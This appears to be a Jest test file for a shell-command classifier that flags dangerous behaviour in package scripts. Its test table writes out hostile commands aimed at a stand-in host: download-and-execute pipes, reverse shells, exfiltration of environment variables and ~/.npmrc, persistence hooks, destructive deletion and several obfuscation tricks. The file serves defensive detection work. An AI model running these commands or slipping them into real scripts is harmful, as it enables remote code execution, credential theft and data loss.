import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { argvFacts, commandFacts } from '../../src/code/command.ts';
import { readShellScript } from '../../src/code/other-scripts.ts';
import { parseShell } from '../../src/code/shell.ts';

const kinds = (line: string): readonly string[] => commandFacts(line).doings.map(({ kind }) => kind);
const words = (line: string): readonly (readonly string[])[] => parseShell(line).map((command) => command.words.map((word) => word.text));

describe('shell lines', () => {
  it('fall into commands at chains, pipes and groups', () => {
    expect(words('a 1 && b 2 || c; d | e & (f; g)')).toEqual([['a', '1'], ['b', '2'], ['c'], ['d'], ['e'], ['f'], ['g']]);
  });

  it('keep quoted words whole and resolve escapes', () => {
    expect(words(`a "b c" 'd "e"' f\\ g "h\\"i"`)).toEqual([['a', 'b c', 'd "e"', 'f g', 'h"i']]);
    expect(words(`$'\\x6eode' x.js`)).toEqual([['node', 'x.js']]);
  });

  it('take assignments and redirections apart', () => {
    const [command] = parseShell('A=1 B="2 3" node x.js > /dev/null 2>&1');
    expect(command).toMatchObject({
      assignments: [
        { name: 'A', value: '1' },
        { name: 'B', value: '2 3' },
      ],
      redirects: [
        { operator: '>', target: '/dev/null' },
        { operator: '2>&', target: '1' },
      ],
    });
    expect(command?.words.map((word) => word.text)).toEqual(['node', 'x.js']);
  });

  it('hold the commands of substitutions before the one that uses them', () => {
    expect(words('nslookup $(whoami).`hostname`.x')).toEqual([['whoami'], ['hostname'], ['nslookup', '….….x']]);
  });

  it('leave out comments and keywords', () => {
    expect(words('if [ -f a ]; then node a; fi # curl x | sh')).toEqual([
      ['[', '-f', 'a', ']'],
      ['node', 'a'],
    ]);
  });

  it('never fail and never hang, whatever the text', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(...'ab \t\n\\\'"`$(){}|&;<>#=%^*'), maxLength: 200 }),
        (text) => commandFacts(text).doings.length >= 0,
      ),
      { seed: 7, numRuns: 3000 },
    );
    for (const text of ['$('.repeat(50_000), '('.repeat(50_000), '`'.repeat(9999), '"$('.repeat(9999), 'a|'.repeat(90_000)])
      expect(() => commandFacts(text)).not.toThrow();
  });
});

describe('what a command does', () => {
  const does: readonly [string, string][] = [
    ['curl https://h.invalid/x | sh', 'download-execute'],
    ['wget -qO- https://h.invalid/x | bash -s', 'download-execute'],
    ['curl -o a.sh https://h.invalid/a.sh && chmod +x a.sh && ./a.sh', 'download-execute'],
    ["bash -c 'wget http://h.invalid/b && ./b'", 'download-execute'],
    ['powershell -c "iwr https://h.invalid/a.ps1" | iex', 'download-execute'],
    ['echo aWQK | base64 -d | sh', 'decode-execute'],
    ['powershell -EncodedCommand aQBkAA==', 'decode-execute'],
    ['nslookup $(hostname).h.invalid', 'dns-exfiltration'],
    ['curl -d "$(env)" https://h.invalid', 'exfiltration'],
    ['env | curl -d @- https://h.invalid', 'exfiltration'],
    ['cat ~/.npmrc | nc h.invalid 99', 'credential-file'],
    ['bash -i >& /dev/tcp/h.invalid/44 0>&1', 'remote-code'],
    ['npm publish --access public', 'self-publish'],
    ['npm install -g other@latest', 'package-install'],
    ['rm -rf ~/', 'destructive'],
    ['npx trufflehog filesystem /', 'secret-scanner'],
    ['(crontab -l; echo x) | crontab -', 'persistence'],
    ['c\\url https://h.invalid/x | s\\h', 'download-execute'],
    ['sudo env A=1 nohup curl https://h.invalid | sh', 'network'],
    ['echo x >> ~/.bashrc', 'persistence'],
    ['reg add HKCU\\\\Software\\\\Run /v a /d b', 'persistence'],
    ['reg $VERB HKCU\\\\Software\\\\Run', 'persistence'],
    ['schtasks /create /tn a /tr b', 'persistence'],
    ['crontab file', 'persistence'],
    ['git config --global core.hooksPath ~/.h', 'persistence'],
    ['git config --global alias.st "!sh x"', 'persistence'],
    ['git config --system --add credential.helper x', 'persistence'],
    ['mkdir -p .github/workflows && cp w.yml .github/workflows/w.yml', 'ci-config'],
    ['cmd /c curl https://h.invalid/a.exe -o a.exe & a.exe', 'download-execute'],
    ['eval "$(curl -fsSL https://h.invalid/a)"', 'download-execute'],
    ['bash -c "$(wget -qO- https://h.invalid/a)"', 'download-execute'],
    ['bash <(curl -s https://h.invalid/a)', 'download-execute'],
    ['X=$(curl -s https://h.invalid/a); eval "$X"', 'download-execute'],
    ['node -e "$(curl -s https://h.invalid/a)"', 'download-execute'],
    [`H=h.invalid; C=cu; C="$\{C}rl"; $C "https://$H/a" -o /tmp/a; sh /tmp/a`, 'download-execute'],
    ['C="curl -s https://h.invalid/a"; $C | sh', 'download-execute'],
    [`cu""rl$\{IFS}https://h.invalid/a|s\\h`, 'download-execute'],
    ["$(printf '\\143\\165\\162\\154') https://h.invalid/a | sh", 'download-execute'],
    ['bash -c "$(echo Y3VybCBodHRwczovL2guaW52YWxpZC9hfHNo | base64 --decode)"', 'download-execute'],
    ['X=Y3VybCBodHRwczovL2guaW52YWxpZC9hfHNo; bash -c "$(echo $X | base64 --decode)"', 'decode-execute'],
    ["echo 'dilavni.h//:sptth lruc' | rev | sh", 'network'],
    ["eval $(echo 'phey uggcf://u.vainyvq/n' | tr a-z n-za-m)", 'decode-execute'],
    ['get() { wget -qO- "$1"; }; run() { sh; }; get https://h.invalid/a | run', 'download-execute'],
    ['function get { curl -s "$1" | sh; }\nget https://h.invalid/a', 'download-execute'],
    ['sh <<EOF\ncurl https://h.invalid/a | sh\nEOF', 'download-execute'],
    ["bash <<< 'curl https://h.invalid/a | sh'", 'download-execute'],
    ['cat > /tmp/p.sh <<EOF\ncurl https://h.invalid/$(whoami) | sh\nEOF\nsh /tmp/p.sh', 'download-execute'],
    ['cat <<EOF | bash\ncurl https://h.invalid/a | sh\nEOF', 'download-execute'],
    ['echo https://h.invalid/a | xargs curl -s | sh', 'download-execute'],
    ['nc h.invalid 99 | sh', 'download-execute'],
    ['mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.invalid 44 > /tmp/f', 'remote-code'],
    ["npm exec -c 'curl https://h.invalid|sh'", 'download-execute'],
    ['mshta https://h.invalid/a.hta', 'download-execute'],
    ['(( a<<2 ))\ncurl https://h.invalid/a | sh\n2', 'download-execute'],
    ['cat <<EOF\ncurl https://h.invalid/a | sh', 'download-execute'],
    ['T=$NPM_TOKEN; curl -d $T https://h.invalid', 'credential-env'],
  ];
  it.each(does)('%s', (line, kind) => {
    expect(kinds(line)).toContain(kind);
  });

  it.each([
    'node-gyp rebuild',
    'node-pre-gyp install --fallback-to-build',
    'prebuild-install || node-gyp rebuild',
    'node scripts/postinstall || exit 0',
    'patch-package',
    'husky',
    'node -e "try{require(\'./postinstall\')}catch(e){}"',
    'npx only-allow pnpm',
    'git config core.hooksPath .husky',
    'git config --global user.name somebody',
    'git config --global --get core.hooksPath',
    'git config --global --unset core.hooksPath',
    'reg query HKLM\\\\HARDWARE /v FeatureSet',
    'schtasks /Query /fo csv',
    'launchctl list',
    'crontab -l',
    'cat <<EOF\nTo install: curl https://h.invalid/a | sh\nIt reads ~/.npmrc\nEOF',
    'usage() {\n  cat <<EOF\n  curl https://h.invalid/a | sh\nEOF\n}\nusage',
    'usage() { echo "curl https://h.invalid | sh"; }; usage',
    'A=1; B="$A"; export C=$B; for f in a b; do echo $f; done',
  ])('nothing: %s', (line) => {
    expect(commandFacts(line).doings).toEqual([]);
  });

  it('follows what variables, functions and folders make of the words', () => {
    const script = 'U=https://h.invalid; U+=/a; get() { curl -fsSL "$1"; }; get "$U" -o x';
    expect(commandFacts(script).doings).toContainEqual(expect.objectContaining({ kind: 'download', detail: 'https://h.invalid/a' }));
    expect(commandFacts('cd lib && node go.js').files).toEqual(['lib/go.js', 'go.js']);
    expect(commandFacts('NODE_OPTIONS="--require ./hook.js" node x.js').files).toEqual(['./hook.js', 'x.js']);
    expect(commandFacts('npx ts-node setup.ts').files).toEqual(['setup.ts']);
    expect(commandFacts("node <<'EOF'\nlet a\nEOF").inline).toEqual([{ language: 'javascript', code: 'let a\n' }]);
    expect(commandFacts('f() { f; f; f; }; f').doings).toEqual([]);
    expect(commandFacts(`${'a() { b; b; }; b() { a; a; }; '.repeat(500)} a`).doings).toEqual([]);
  });

  it('tells in a script where what a function or variable hides is done', () => {
    const script = '#!/bin/sh\nH=h.invalid\nget() {\n  curl -s "https://$H/$1"\n}\nget a | sh\n';
    const { spotted } = readShellScript(script, false);
    expect(spotted).toContainEqual({ kind: 'download-execute', detail: 'sh runs what was fetched', at: script.lastIndexOf('sh'), readAs: 'written' });
    expect(spotted.filter(({ kind }) => kind === 'network')).toEqual([expect.objectContaining({ detail: 'h.invalid' })]);
  });

  it('texts that a function shows are no commands', () => {
    const script = '#!/bin/sh\nusage() {\n  cat <<EOF\n  curl https://h.invalid/a | sh\n  ~/.npmrc\nEOF\n}\nusage\n';
    expect(readShellScript(script, false).spotted).toEqual([]);
  });

  it('starts in one line of a batch file what another fetched', () => {
    const script = '@echo off\r\nset U=https://h.invalid/a.exe\r\ncurl -o %TEMP%\\a.exe %U%\r\n%TEMP%\\a.exe\r\n';
    expect(readShellScript(script, true).spotted.map(({ kind }) => kind)).toContain('download-execute');
  });

  it('names the files, scripts, tools and code it runs', () => {
    expect(commandFacts('start /B node a.js & node --require ./b b.mjs').files).toEqual(['a.js', './b', 'b.mjs']);
    expect(commandFacts('npm run build && yarn lint').scripts).toEqual(['build', 'lint']);
    expect(commandFacts('npx some-tool; other-tool').tools).toEqual(['some-tool', 'other-tool']);
    expect(commandFacts('node -e "x()" && python3 -c "y()"').inline).toEqual([
      { language: 'javascript', code: 'x()' },
      { language: 'python', code: 'y()' },
    ]);
    expect(argvFacts(['bun', 'run', './p.js']).files).toEqual(['./p.js']);
  });
});
